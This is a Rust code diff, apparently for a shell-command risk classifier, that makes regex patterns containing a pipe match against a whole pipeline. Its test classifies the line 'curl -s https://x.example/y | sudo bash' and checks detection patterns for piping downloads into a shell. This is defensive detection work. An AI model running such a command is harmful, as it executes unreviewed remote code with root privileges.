@@ -179,7 +179,13 @@ impl CommandPattern {
                 .commands
                 .iter()
                 .find(|command| spoken(command).any(|words| regex.is_match(&words.join(" "))))
-                .map_or(Match::No, |command| Match::Yes(command.span)),
+                .map_or_else(
+                    || match names_pipe(regex) && regex.is_match(&joined(line)) {
+                        true => Match::Yes(whole(line)),
+                        false => Match::No,
+                    },
+                    |command| Match::Yes(command.span),
+                ),
             Kind::Words(stages) => generous_stages(stages, line),
         }
     }
@@ -333,6 +339,23 @@ pub(super) fn glob(pattern: &str, text: &str) -> bool {
     name_matches(pattern.as_bytes(), text.as_bytes())
 }
 
+/// Whether an expression speaks of a pipe: `\|`, `[|]`, `\x7c`.
+fn names_pipe(regex: &Regex) -> bool {
+    ["\\|", "[|", "|]", "\\x7c", "\\x7C"]
+        .iter()
+        .any(|pipe| regex.as_str().contains(pipe))
+}
+
+/// The commands of a line in their order, as a pipeline of all of them.
+fn joined(line: &Classification) -> String {
+    let words = |command: &SimpleCommand| {
+        let words: Vec<&str> = command.argv.iter().map(|arg| arg.text.as_str()).collect();
+        words.join(" ")
+    };
+    let commands: Vec<String> = line.commands.iter().map(words).collect();
+    commands.join(" | ")
+}
+
 #[cfg(test)]
 mod tests {
     #![allow(clippy::unwrap_used)]
@@ -471,6 +494,25 @@ mod tests {
             pattern.generous(&line("sudo cargo test -v", Risk::Normal)),
             Match::Yes(_)
         ));
+    }
+
+    #[test]
+    fn regular_expressions_with_a_pipe_mean_pipelines() {
+        let line = crate::classify::classify(
+            b"echo hi; curl -s https://x.example/y | sudo bash",
+            &crate::classify::Context::default(),
+        );
+        for (expression, matches) in [
+            (r"curl .*\| *(ba|z)?sh", true),
+            (r"curl .*[|] bash", true),
+            (r"wget .*\| *bash", false),
+            // Without a pipe it is about one command.
+            (r"curl .*bash", false),
+            (r"curl|nothing", true),
+        ] {
+            let found = CommandPattern::regex(expression).unwrap().generous(&line);
+            assert_eq!(found != Match::No, matches, "{expression}");
+        }
     }
 
     #[test]
